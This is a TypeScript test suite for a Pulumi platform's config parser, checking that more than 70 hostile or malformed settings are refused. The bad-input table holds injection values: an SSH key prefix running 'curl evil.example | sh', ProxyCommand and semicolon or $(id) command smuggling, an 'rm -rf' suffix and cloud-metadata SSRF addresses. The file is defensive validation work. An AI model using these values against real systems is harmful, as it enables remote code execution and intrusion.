// Issue 13 item 5: bad input cannot open a hole. Every hostile value tried against config.ts, one
// row each: the key it must be refused under and what the message must say. Each fails in
// parseConfig (before any resource); a few run the whole program to show 0 resources registered.
import { describe, expect, it } from "vitest";
import { ConfigError, parseConfig } from "../config";
import { configSource } from "./helpers/config-source";
import { runStack, runStackError, TEST_SECRETS } from "./helpers/stack";

type Env = "oci" | "homelab" | "dev";

const BASE: Record<Env, Record<string, string>> = {
  oci: { domain: "platform.example.com", adminCidr: "203.0.113.7/32", compartmentId: "ocid1.compartment.oc1..example", "oci:region": "eu-frankfurt-1", backupOciUserOcid: "ocid1.user.oc1..example", acmeEmail: "admin@example.org" },
  homelab: { domain: "homelab.example.com", hostAddress: "192.0.2.10", sshHostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHti2OleQg5G0MHLhX1RVjYSi3xH/ocsHLq0NbtQ6yaa", acmeEmail: "admin@example.org" },
  dev: {},
};
const PRIVATE_KEY = TEST_SECRETS.homelab["platform:sshPrivateKey"];
const BASE_SECRETS: Record<Env, Record<string, string>> = { oci: {}, homelab: { sshPrivateKey: PRIVATE_KEY }, dev: {} };

// Real keys (ssh-keygen, public halves only), and a security-key one built to the wire format.
const ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKGtTOIRAPCcuKjqb247h4vBCeNw2bBZ7XlNyhWpJ+t5 user@laptop";
const ECDSA = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBLDCSomY4hPtZLcWSODKceo4ljenigacgPpVy3UZHXMsKc1HBFdJa9VwoL6gnldtS+EO8bahvKt9Y5eQKli1X+4= user@laptop";
const RSA_1024 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQCZKuuSZDzCsfntjxBdsOWyG+/wkLb9/QZM5znTAXJmXVhn7Q90u74DoIGA7idyBPtPcoCORcXL7lo17Lik/pUeZFS4uoKIMfQkC036TeJf1154Rp3LT8wourkHxEVA/KNK797EVP9W+mJbPhbLK/tIHmxyDlDa8IJAXIkajftiEQ== user@laptop";
const RSA_2048 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDdi2p2PCViZS7AtMs1D8rY2hg7CRjq16AAscgHcSs+dFLNi8iYFZl2pe9rkAezUGITOgpFthM+MMtZmsnoyVpGLt+ZMJiVHhyejH+68n3qN0o4uwgtUFuitDXpk6UfPvBarTukWE0SjtHscm2P5xZFrR9fFysSP1J09rcvD8Dmb/4fqt8B3JdaCrvP+XfsCHFqMO6l15zbqkFRlfiaPj7EIMMVEt6QbPizzOmtPlZo7kfuQU3D1WFe4Ldp3yJo1ShI2dv0sm2BZf0REQdNWxNbKPK31cXAZZWSTiVdEJZaQkldbrlN3s4PkZRYjnixw4pwcEyBep7F/OKeMU0eXUvx user@laptop";
const wire = (...fields: Buffer[]) => Buffer.concat(fields.flatMap((f) => { const n = Buffer.alloc(4); n.writeUInt32BE(f.length); return [n, f]; })).toString("base64");
const SK = `sk-ssh-ed25519@openssh.com ${wire(Buffer.from("sk-ssh-ed25519@openssh.com"), Buffer.alloc(32, 7), Buffer.from("ssh:"))} yubikey`;
const ED_BODY = ED25519.split(" ")[1];

const GOOD_PW = "Tr0ub4dor-Kettle-92";
const S3_KEYS = { backupS3AccessKeyId: "AKIAEXAMPLE7Q", backupS3SecretAccessKey: "s3-secret-7Qx9Zk" };

interface Row {
  /** The key the error must name (platform:<key>, or the namespaced key). */
  readonly key: string;
  readonly env: Env;
  /** Plaintext config over the environment's base (undefined removes a key). */
  readonly set?: Record<string, string | undefined>;
  /** --secret config over the base secrets. */
  readonly secret?: Record<string, string>;
  /** A substring of what the message must say (what is allowed). */
  readonly says: string;
}

const row = (key: string, env: Env, value: string | undefined, says: string, asSecret = false): Row =>
  asSecret ? { key, env, secret: { [key]: value! }, says } : { key, env, set: { [key]: value }, says };
const secretRow = (key: string, env: Env, value: string, says: string) => row(key, env, value, says, true);

const BAD: Row[] = [
  // adminCidr: a real CIDR, no host bits, no leading zeros, no prefix wider than /16 (public).
  row("adminCidr", "oci", "0.0.0.0/00", "decimal number 0-32 without leading zeros"),
  row("adminCidr", "oci", "203.0.113.7/0", "host bits set: the network is 0.0.0.0/0"),
  row("adminCidr", "oci", "0.0.0.0/1", "wider than /16"),
  row("adminCidr", "oci", "128.0.0.0/1", "wider than /16"),
  row("adminCidr", "oci", "8.0.0.0/8", "wider than /16"),
  row("adminCidr", "oci", "203.0.0.0/15", "wider than /16"),
  row("adminCidr", "oci", "203.0.113.7/24", "the network is 203.0.113.0/24"),
  row("adminCidr", "oci", "010.0.0.1/32", "leading zero"),
  row("adminCidr", "oci", "203.0.113.7/032", "without leading zeros"),
  row("adminCidr", "oci", "203.0.113.7", "address/prefix"),
  row("adminCidr", "oci", "203.0.113.7/33", "0-32"),
  row("adminCidr", "oci", "203.0.113.7/32,198.51.100.0/24", "one CIDR only"),
  row("adminCidr", "oci", "203.0.113.7/32 ", "0-32"),
  row("adminCidr", "oci", "203.0.113.256/32", "not an IPv4 address"),
  row("adminCidr", "oci", "::/0", "not an IPv4 address"),
  row("adminCidr", "oci", "0.0.0.0/0", "must not be 0.0.0.0/0"),
  row("adminCidr", "oci", undefined, "is required when environment is oci"),
  row("adminCidr", "dev", "203.0.113.7/32", "does not apply when environment is dev"),
  row("adminCidr", "homelab", "0.0.0.0/1", "wider than /16"),
  row("adminCidr", "homelab", "192.168.1.5/24", "the network is 192.168.1.0/24"),
  // Secrets: empty, weak, too long for bcrypt, characters our consumers split on.
  secretRow("guestPassword", "dev", "", "is empty"),
  secretRow("registryPassword", "dev", "", "is empty"),
  secretRow("giteaAdminPassword", "dev", "", "is empty"),
  secretRow("argocdAdminPassword", "dev", "", "is empty"),
  secretRow("databasePassword", "dev", "", "is empty"),
  secretRow("backupPassword", "dev", "", "is empty"),
  secretRow("argocdAdminPassword", "dev", "a", "at least 12 characters"),
  secretRow("argocdAdminPassword", "dev", "admin", "at least 12 characters"),
  secretRow("giteaAdminPassword", "dev", "password", "at least 12 characters"),
  secretRow("giteaAdminPassword", "dev", "Password1234!", "common password"),
  secretRow("giteaAdminPassword", "dev", "adminadmin12", "common password"),
  secretRow("argocdAdminPassword", "dev", "changeme-2026", "common password"),
  secretRow("argocdAdminPassword", "dev", "Qwerty-Qwerty-1", "common password"),
  secretRow("argocdAdminPassword", "dev", "abcabcabcabc", "too repetitive"),
  secretRow("guestPassword", "dev", "guest", "at least 12 characters"),
  secretRow("guestPassword", "dev", "123456789012", "digits only"),
  secretRow("guestPassword", "dev", "aaaaaaaaaaaaaaa", "too repetitive"),
  secretRow("registryPassword", "dev", "x7Q!".repeat(20), "longer than 72 bytes"),
  secretRow("registryPassword", "dev", "line-one-7Qx\nline-two-9Zk", "control characters"),
  secretRow("giteaAdminPassword", "dev", "tab\there-7Qx-9Zk", "control characters"),
  secretRow("giteaAdminPassword", "dev", " leading-space-7Qx", "whitespace"),
  secretRow("databasePassword", "dev", "short", "at least 12 characters"),
  secretRow("k3sToken", "homelab", "x", "at least 16 characters"),
  secretRow("k3sToken", "homelab", "0123456789abcde", "at least 16 characters"),
  secretRow("k3sToken", "homelab", "token with spaces 7Qx9Zk", "only letters, digits"),
  secretRow("k3sToken", "oci", "token-7Qx9Zk-4f8a\nK3S_URL=https://evil", "control characters"),
  secretRow("k3sToken", "homelab", "tok'en$(id)-7Qx9Zk4f", "only letters, digits"),
  secretRow("sshPrivateKey", "homelab", ED25519, "is a public key"),
  secretRow("sshPrivateKey", "homelab", "k", "must be a private key file"),
  secretRow("sshPrivateKey", "homelab", "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n", "must end with -----END OPENSSH PRIVATE KEY-----"),
  secretRow("sshPrivateKey", "homelab", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nabc\n-----END RSA PRIVATE KEY-----\n", "encrypted with a passphrase"),
  secretRow("sshPrivateKey", "oci", "", "is empty"),
  { key: "backupS3SecretAccessKey", env: "dev", set: { backupS3Endpoint: "https://s3.example.com", backupS3Bucket: "backups-1" }, secret: { backupS3AccessKeyId: "AKIAEXAMPLE7Q", backupS3SecretAccessKey: "" }, says: "is empty" },
  { key: "backupS3AccessKeyId", env: "dev", set: { backupS3Endpoint: "https://s3.example.com", backupS3Bucket: "backups-1" }, secret: { backupS3AccessKeyId: "AKIA EXAMPLE", backupS3SecretAccessKey: "s3-secret-7Qx9Zk" }, says: "whitespace" },
  // A secret key set without --secret (plaintext in Pulumi.<stack>.yaml).
  ...["giteaAdminPassword", "argocdAdminPassword", "guestPassword", "registryPassword", "databasePassword", "backupPassword"].map((k) =>
    row(k, "dev", GOOD_PW, `pulumi config set --secret platform:${k}`)),
  row("k3sToken", "homelab", "k3s-token-7Qx9Zk-4f8a6e3b1c", "pulumi config set --secret platform:k3sToken"),
  { key: "sshPrivateKey", env: "homelab", set: { sshPrivateKey: PRIVATE_KEY }, secret: {}, says: "pulumi config set --secret platform:sshPrivateKey" },
  { key: "sshPrivateKey", env: "oci", set: { sshPublicKey: ED25519, sshPrivateKey: PRIVATE_KEY }, says: "pulumi config set --secret platform:sshPrivateKey" },
  { key: "backupS3AccessKeyId", env: "dev", set: { backupS3Endpoint: "https://s3.example.com", backupS3Bucket: "backups-1", backupS3AccessKeyId: "AKIAEXAMPLE7Q" }, secret: { backupS3SecretAccessKey: "s3-secret-7Qx9Zk" }, says: "pulumi config set --secret platform:backupS3AccessKeyId" },
  { key: "backupS3SecretAccessKey", env: "dev", set: { backupS3Endpoint: "https://s3.example.com", backupS3Bucket: "backups-1", backupS3SecretAccessKey: "s3-secret-7Qx9Zk" }, secret: { backupS3AccessKeyId: "AKIAEXAMPLE7Q" }, says: "pulumi config set --secret platform:backupS3SecretAccessKey" },
  // hostAddress: strict IPv4 outside loopback/link-local/multicast/broadcast, or an RFC 1123 name.
  row("hostAddress", "homelab", "10.0.0.1.2", "not an IPv4 address"),
  row("hostAddress", "homelab", "0.0.0.0", "\"this network\""),
  row("hostAddress", "homelab", "0.1.2.3", "\"this network\""),
  row("hostAddress", "homelab", "169.254.169.254", "link-local"),
  row("hostAddress", "homelab", "0177.0.0.1", "leading zero"),
  row("hostAddress", "homelab", "0x7f.0.0.1", "not an IPv4 address"),
  row("hostAddress", "homelab", "2130706433", "not an IPv4 address"),
  row("hostAddress", "homelab", "224.0.0.1", "multicast"),
  row("hostAddress", "homelab", "255.255.255.255", "broadcast"),
  row("hostAddress", "homelab", "127.0.0.1", "loopback"),
  row("hostAddress", "homelab", "127.1.2.3", "loopback"),
  row("hostAddress", "homelab", "localhost", "loopback"),
  row("hostAddress", "homelab", "nas.localhost", "loopback"),
  row("hostAddress", "homelab", "nas.local", "multicast DNS"),
  row("hostAddress", "homelab", "192.0.2.10:22", "host:port are not supported"),
  row("hostAddress", "homelab", "::1", "IPv6"),
  row("hostAddress", "homelab", "-oProxyCommand=touch.example.com", "must be an IPv4 address or a DNS name"),
  row("hostAddress", "homelab", "host_name.example.com", "must be an IPv4 address or a DNS name"),
  row("hostAddress", "homelab", `${"a".repeat(64)}.example.com`, "more than 63 characters"),
  row("hostAddress", "homelab", "host.example.com.", "must be an IPv4 address or a DNS name"),
  row("hostAddress", "homelab", "host.example.123", "last label is a number"),
  row("hostAddress", "homelab", undefined, "is required when environment is homelab"),
  // sshPublicKey: one line, a known type, base64 whose own type matches, no options.
  row("sshPublicKey", "oci", `${ED25519}\n${RSA_2048}`, "exactly one line"),
  row("sshPublicKey", "oci", `${ED25519}\r\nssh-ed25519 ${ED_BODY} second`, "exactly one line"),
  row("sshPublicKey", "oci", `command="curl evil.example | sh" ${ED25519}`, "options prefix"),
  row("sshPublicKey", "oci", `no-pty ${ED25519}`, "options prefix"),
  row("sshPublicKey", "oci", "ssh-dss AAAAB3NzaC1kc3MAAACBAP user@old", "DSA"),
  row("sshPublicKey", "oci", `ssh-rsa ${ED_BODY} me`, "the body is a \"ssh-ed25519\" key, not ssh-rsa"),
  row("sshPublicKey", "oci", RSA_1024, "1024 bits is too weak"),
  row("sshPublicKey", "oci", "ssh-ed25519 AAAA", "truncated"),
  row("sshPublicKey", "oci", "ssh-ed25519 not-base64! me", "not base64"),
  row("sshPublicKey", "oci", "hello", "must be an OpenSSH public key"),
  row("sshPublicKey", "oci", "", "unknown key type"),
  // ubuntuVersion: supported LTS releases only.
  row("ubuntuVersion", "oci", "18.04", "one of 22.04, 24.04, 26.04"),
  row("ubuntuVersion", "oci", "20.04", "one of 22.04, 24.04, 26.04"),
  row("ubuntuVersion", "oci", "16.04", "one of 22.04, 24.04, 26.04"),
  row("ubuntuVersion", "oci", "99.04", "one of 22.04, 24.04, 26.04"),
  row("ubuntuVersion", "oci", "24.10", "one of 22.04, 24.04, 26.04"),
  row("ubuntuVersion", "oci", "24.04.1", "one of 22.04, 24.04, 26.04"),
  // availabilityDomainIndex: the basic range here; the region's real count in components/inputs.ts.
  row("availabilityDomainIndex", "oci", "3", "from 0 to 2"),
  row("availabilityDomainIndex", "oci", "-1", "from 0 to 2"),
  row("availabilityDomainIndex", "oci", "1.5", "from 0 to 2"),
  // domain: a DNS name; on oci and homelab not one that only this machine resolves.
  row("domain", "oci", "platform.localhost", "resolves to loopback"),
  row("domain", "homelab", "homelab.localhost", "resolves to loopback"),
  row("domain", "oci", "platform.local", "multicast DNS"),
  row("domain", "oci", "platform.invalid", "never resolves"),
  row("domain", "oci", "localhost", "must be a valid DNS name"),
  row("domain", "oci", "10.0.0.1", "last label is a number"),
  row("domain", "oci", "platform.example.com/evil", "must be a valid DNS name"),
  row("domain", "oci", "-platform.example.com", "must be a valid DNS name"),
  row("domain", "oci", "platform..example.com", "must be a valid DNS name"),
  row("domain", "oci", `${"a.".repeat(127)}com`, "1 to 253 characters"),
  row("domain", "dev", "not a domain", "must be a valid DNS name"),
  row("domain", "oci", undefined, "is required when environment is oci"),
  // Numbers.
  row("nodeCount", "oci", "0", "from 1 to 10"),
  row("nodeCount", "oci", "1.5", "from 1 to 10"),
  row("nodeCount", "oci", "1e1", "from 1 to 10"),
  row("nodeCount", "oci", "0x2", "from 1 to 10"),
  row("nodeCount", "oci", "99999999999999999999", "from 1 to 10"),
  row("ocpus", "oci", "0", "from 1 to 80"),
  row("ocpus", "oci", "-2", "from 1 to 80"),
  row("ocpus", "oci", "2.5", "from 1 to 80"),
  row("memoryGb", "oci", "twelve", "from 1 to 512"),
  row("bootVolumeGb", "oci", "49", "from 50"),
  row("sshPort", "homelab", "0", "from 1 to 65535"),
  row("sshPort", "homelab", "65536", "from 1 to 65535"),
  row("sshPort", "homelab", "22.5", "from 1 to 65535"),
  row("sshPort", "homelab", "22abc", "from 1 to 65535"),
  row("sshPort", "homelab", "-22", "from 1 to 65535"),
  row("hostMemoryGb", "dev", "0", "from 2"),
  row("hostCpus", "dev", "1e3", "from 1 to 512"),
  row("hostCpus", "oci", "8", "does not apply when environment is oci"),
  // Names that reach a command line or a file.
  row("sshUser", "homelab", "root user", "must be a Unix user name"),
  row("sshUser", "homelab", "-oProxyCommand=touch /tmp/x", "must be a Unix user name"),
  row("sshUser", "homelab", "ubuntu;id", "must be a Unix user name"),
  row("sshUser", "homelab", "Ubuntu", "must be a Unix user name"),
  row("sshUser", "homelab", "u".repeat(33), "must be a Unix user name"),
  row("clusterName", "dev", "My_Cluster", "lowercase DNS label"),
  row("clusterName", "dev", "-x", "lowercase DNS label"),
  row("clusterName", "dev", "k3d.cluster", "lowercase DNS label"),
  row("clusterName", "dev", "c".repeat(33), "at most 32 characters"),
  row("clusterName", "dev", "", "lowercase DNS label"),
  row("compartmentId", "oci", "ocid1.instance.oc1..example", "compartment or tenancy OCID"),
  row("compartmentId", "oci", "ocid1.compartment.oc1..EXAMPLE", "compartment or tenancy OCID"),
  row("compartmentId", "oci", "ocid1.compartment.oc1..example; rm -rf", "compartment or tenancy OCID"),
  row("replaceNode", "oci", "--force", "short token"),
  row("k3sTokenRotated", "homelab", "a b", "short token"),
  row("environment", "dev", "OCI", "must be one of: oci, homelab, dev"),
  row("deleteUnreachable", "dev", "yes", "true or false"),
  row("allowPaidShapes", "oci", "1", "true or false"),
  // Backups.
  { key: "backupS3Endpoint", env: "dev", set: { backupS3Endpoint: "http://169.254.169.254", backupS3Bucket: "backups-1" }, secret: S3_KEYS, says: "link-local" },
  { key: "backupS3Endpoint", env: "dev", set: { backupS3Endpoint: "http://127.0.0.1:9000", backupS3Bucket: "backups-1" }, secret: S3_KEYS, says: "loopback" },
  { key: "backupS3Endpoint", env: "dev", set: { backupS3Endpoint: "https://s3.example.com:99999", backupS3Bucket: "backups-1" }, secret: S3_KEYS, says: "port must be 1-65535" },
  { key: "backupS3Endpoint", env: "dev", set: { backupS3Endpoint: "https://user:pw@s3.example.com", backupS3Bucket: "backups-1" }, secret: S3_KEYS, says: "without a path" },
  { key: "backupS3Endpoint", env: "dev", set: { backupS3Endpoint: "https://s3.example.com/bucket", backupS3Bucket: "backups-1" }, secret: S3_KEYS, says: "without a path" },
  row("backupHostPath", "dev", "/etc", "outside K3s's own"),
  row("backupHostPath", "dev", "/mnt/../etc", "outside K3s's own"),
  row("backupHostPath", "dev", "/var/lib/rancher/k3s/backup", "outside K3s's own"),
  row("backupKeepDaily", "dev", "-1", "from 0 to 3650"),
];

/** Values that must pass (an over-strict rule is a defect too). */
const GOOD: { what: string; env: Env; set?: Record<string, string | undefined>; secret?: Record<string, string> }[] = [
  { what: "adminCidr a /32", env: "oci", set: { adminCidr: "203.0.113.7/32" } },
  { what: "adminCidr a /16 (the widest public range)", env: "oci", set: { adminCidr: "198.51.0.0/16" } },
  { what: "adminCidr a private /8 on homelab (a LAN, not routed)", env: "homelab", set: { adminCidr: "10.0.0.0/8" } },
  { what: "adminCidr 172.16.0.0/12 on homelab", env: "homelab", set: { adminCidr: "172.16.0.0/12" } },
  { what: "adminCidr the committed homelab LAN", env: "homelab", set: { adminCidr: "192.0.2.0/24" } },
  { what: "hostAddress a DNS name starting with localhost.", env: "homelab", set: { hostAddress: "localhost.example.com" } },
  { what: "hostAddress a name in capitals", env: "homelab", set: { hostAddress: "NAS.Example.COM" } },
  { what: "hostAddress a LAN address", env: "homelab", set: { hostAddress: "10.0.0.5" } },
  { what: "hostAddress a name with a numeric label", env: "homelab", set: { hostAddress: "1.2.3.nas.example.com" } },
  { what: "sshPublicKey ed25519", env: "oci", set: { sshPublicKey: ED25519 } },
  { what: "sshPublicKey with a trailing newline (< key.pub)", env: "oci", set: { sshPublicKey: `${ED25519}\n` } },
  { what: "sshPublicKey without a comment", env: "oci", set: { sshPublicKey: `ssh-ed25519 ${ED_BODY}` } },
  { what: "sshPublicKey ecdsa", env: "oci", set: { sshPublicKey: ECDSA } },
  { what: "sshPublicKey rsa 2048", env: "oci", set: { sshPublicKey: RSA_2048 } },
  { what: "sshPublicKey a security key (sk-ssh-ed25519)", env: "oci", set: { sshPublicKey: SK } },
  { what: "ubuntuVersion 22.04", env: "oci", set: { ubuntuVersion: "22.04" } },
  { what: "ubuntuVersion 26.04", env: "oci", set: { ubuntuVersion: "26.04" } },
  { what: "domain .internal on oci (private, a platform CA covers it)", env: "oci", set: { domain: "platform.internal", acmeEmail: undefined } },
  { what: "domain home.arpa on homelab", env: "homelab", set: { domain: "lab.home.arpa", acmeEmail: undefined } },
  { what: "domain platform.localhost on dev", env: "dev", set: { domain: "platform.localhost" } },
  { what: "every password key set with --secret", env: "dev", secret: Object.fromEntries(["giteaAdminPassword", "argocdAdminPassword", "guestPassword", "registryPassword", "databasePassword", "backupPassword"].map((k) => [k, GOOD_PW])) },
  { what: "a passphrase of words", env: "dev", secret: { giteaAdminPassword: "correct horse battery staple" } },
  { what: "a random password with few letters", env: "dev", secret: { guestPassword: "9$2!x8@4#7&1" } },
  { what: "a 72-byte bcrypt password", env: "dev", secret: { registryPassword: GOOD_PW.repeat(4).slice(0, 72) } },
  { what: "k3sToken of 16 allowed characters", env: "homelab", secret: { k3sToken: "K10abc.def+/=:-_" } },
  { what: "backupS3Endpoint a LAN MinIO by single-label name", env: "dev", set: { backupS3Endpoint: "http://nas:9000", backupS3Bucket: "backups-1" }, secret: { backupS3AccessKeyId: "minio-user", backupS3SecretAccessKey: "minio-secret-7Qx" } },
];

function parse(env: Env, set: Record<string, string | undefined> = {}, secret: Record<string, string> = {}) {
  const values: Record<string, string | undefined> = { ...BASE[env], ...set };
  // A key set in plaintext replaces the base's secret one (it is no longer secret).
  const secrets = Object.fromEntries(Object.entries({ ...BASE_SECRETS[env], ...secret }).filter(([k]) => !(k in set) || k in secret));
  return parseConfig(configSource(values, secrets), env);
}

const label = (r: Row) => {
  const v = r.secret && Object.keys(r.secret).includes(r.key) ? `(secret) ${JSON.stringify(r.secret[r.key])}` : r.set && r.key in r.set ? (r.set[r.key] === undefined ? "(unset)" : JSON.stringify(r.set[r.key])) : JSON.stringify({ ...r.set, ...r.secret });
  return `${r.env} ${r.key} = ${v.length > 70 ? `${v.slice(0, 70)}…` : v}`;
};

describe("#13 bad input cannot open a hole: each refused in config, naming the key and what is allowed", () => {
  for (const [i, r] of BAD.entries()) {
    it(`#${i + 1} ${label(r)}`, () => {
      let error: unknown;
      try {
        parse(r.env, r.set, r.secret);
      } catch (e) {
        error = e;
      }
      expect(error, "refused").toBeInstanceOf(ConfigError);
      const message = (error as Error).message;
      const key = r.key.includes(":") ? r.key : `platform:${r.key}`;
      expect(message.startsWith(`${key}: `), message).toBe(true);
      expect(message).toContain(r.says);
      // A secret's value never appears in its error.
      for (const value of Object.values(r.secret ?? {})) if (value.length >= 8) expect(message).not.toContain(value);
    });
  }
  it(`the table has at least 70 hostile values (${BAD.length})`, () => expect(BAD.length).toBeGreaterThanOrEqual(70));
});

describe("#13 valid values still pass", () => {
  for (const g of GOOD) it(g.what, () => expect(() => parse(g.env, g.set, g.secret)).not.toThrow());
  it("sshPublicKey: the key reaches the host as one line, without its trailing newline", () => {
    expect(parse("oci", { sshPublicKey: `${ED25519}\n` }).oci?.sshPublicKey).toBe(ED25519);
  });
  it("hostAddress and domain are lowercased", () => {
    expect(parse("homelab", { hostAddress: "NAS.Example.COM" }).homelab?.hostAddress).toBe("nas.example.com");
  });
});

describe("#13 bad input through the whole program registers nothing", () => {
  const cases: { what: string; stack: Env; config?: Record<string, string | undefined>; secrets?: Record<string, string>; mocks?: { availabilityDomains?: number; noImageFor?: string[] }; message: RegExp }[] = [
    { what: "adminCidr 0.0.0.0/1", stack: "oci", config: { "platform:adminCidr": "0.0.0.0/1" }, message: /^platform:adminCidr: .*wider than \/16/ },
    { what: "empty guestPassword (was: bcryptHash: empty password after 100+ resources)", stack: "dev", secrets: { "platform:guestPassword": "" }, message: /^platform:guestPassword: is empty/ },
    { what: "guestPassword set without --secret", stack: "dev", config: { "platform:guestPassword": GOOD_PW }, secrets: {}, message: /^platform:guestPassword: is set in plaintext.*pulumi config set --secret platform:guestPassword/ },
    { what: "weak k3sToken", stack: "homelab", secrets: { ...TEST_SECRETS.homelab, "platform:k3sToken": "x" }, message: /^platform:k3sToken: .*at least 16/ },
    { what: "hostAddress 10.0.0.1.2 (was: Invalid URL, late)", stack: "homelab", config: { "platform:hostAddress": "10.0.0.1.2" }, message: /^platform:hostAddress: / },
    { what: "sshPublicKey with a second line", stack: "oci", config: { "platform:sshPublicKey": `${ED25519}\n${RSA_2048}` }, message: /^platform:sshPublicKey: must be exactly one line/ },
    { what: "ubuntuVersion 18.04", stack: "oci", config: { "platform:ubuntuVersion": "18.04" }, message: /^platform:ubuntuVersion: / },
    { what: "domain platform.localhost on oci", stack: "oci", config: { "platform:domain": "platform.localhost" }, message: /^platform:domain: / },
    { what: "adminCidr on dev", stack: "dev", config: { "platform:adminCidr": "203.0.113.7/32" }, message: /^platform:adminCidr: does not apply/ },
    // Only the invoke knows the region's count: it is awaited before the first resource (index.ts).
    { what: "availabilityDomainIndex 2 in a region of 2 (was: after 15 cloud resources)", stack: "oci", config: { "platform:availabilityDomainIndex": "2" }, message: /^platform:availabilityDomainIndex: is 2, but this region has 2 availability domain\(s\): use 0 to 1/ },
    { what: "availabilityDomainIndex 1 in a region of 1", stack: "oci", config: { "platform:availabilityDomainIndex": "1" }, mocks: { availabilityDomains: 1 }, message: /^platform:availabilityDomainIndex: is 1, but this region has 1 availability domain\(s\): use 0$/ },
    // The image lookup too (was: after 15 cloud resources, inside the instance's sourceId).
    { what: "ubuntuVersion 26.04 with no A1 image in the region", stack: "oci", config: { "platform:ubuntuVersion": "26.04" }, mocks: { noImageFor: ["26.04"] }, message: /^platform:ubuntuVersion: no Canonical Ubuntu 26\.04 image for VM\.Standard\.A1\.Flex in eu-frankfurt-1/ },
  ];
  for (const c of cases) {
    it(`${c.what}: fails before any resource`, async () => {
      const { error, created } = await runStackError(c.stack, { config: c.config, ...(c.secrets ? { secrets: c.secrets } : {}), ...(c.mocks ? { mocks: c.mocks } : {}) });
      expect(error.message).toMatch(c.message);
      expect(created.map((r) => `${r.type}::${r.name}`)).toEqual([]);
    }, 30_000);
  }

  it("availabilityDomainIndex 2 in a region of 3 evaluates and places the node there", async () => {
    const run = await runStack("oci", { config: { "platform:availabilityDomainIndex": "2" }, mocks: { availabilityDomains: 3 } });
    const instance = run.created.find((r) => r.type === "oci:Core/instance:Instance")!;
    expect(instance.inputs.availabilityDomain).toBe("mock:EU-FRANKFURT-1-AD-3");
  }, 30_000);

  it("ubuntuVersion 22.04: the instance launches from that version's newest image, resolved before the Platform", async () => {
    const run = await runStack("oci", { config: { "platform:ubuntuVersion": "22.04" } });
    const instance = run.created.find((r) => r.type === "oci:Core/instance:Instance")!;
    expect(instance.inputs.sourceDetails.sourceId).toBe("ocid1.image.oc1..mock-newest-22.04");
  }, 30_000);

  it("secrets given with --secret evaluate (the source tells them apart truthfully)", async () => {
    const run = await runStack("dev", { secrets: { "platform:guestPassword": GOOD_PW } });
    expect(run.created.length).toBeGreaterThan(100);
  }, 30_000);
});
